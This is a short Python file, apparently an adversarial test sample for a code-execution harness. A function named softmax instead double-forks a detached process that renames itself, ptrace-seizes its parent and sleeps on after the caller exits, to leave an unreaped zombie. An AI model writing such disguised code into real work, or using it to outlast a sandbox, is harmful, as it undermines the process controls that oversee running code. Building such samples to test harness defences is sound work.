"""Has a detached process trace this one and then dies: a traced zombie is only reaped when its tracer lets go.

tries: fork
earns: nothing
trace: none
hangs: call
"""

import ctypes
import os
import time

def take_name():
    """Carry the marker where /proc/PID/comm shows it, whatever the command line says."""
    try:
        with open("/proc/self/comm", "w") as comm:
            comm.write("@@MARK@@")
    except OSError:
        pass
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, b"@@MARK@@", 0, 0, 0)
    except Exception:
        pass


def softmax(x, axis=-1):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(0x59616D61, ctypes.c_ulong(-1), 0, 0, 0)
    target = os.getpid()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            take_name()
            libc.ptrace(0x4206, target, None, ctypes.c_void_p(0x40))
            time.sleep(60)
        os._exit(0)
    time.sleep(0.2)
    os._exit(0)
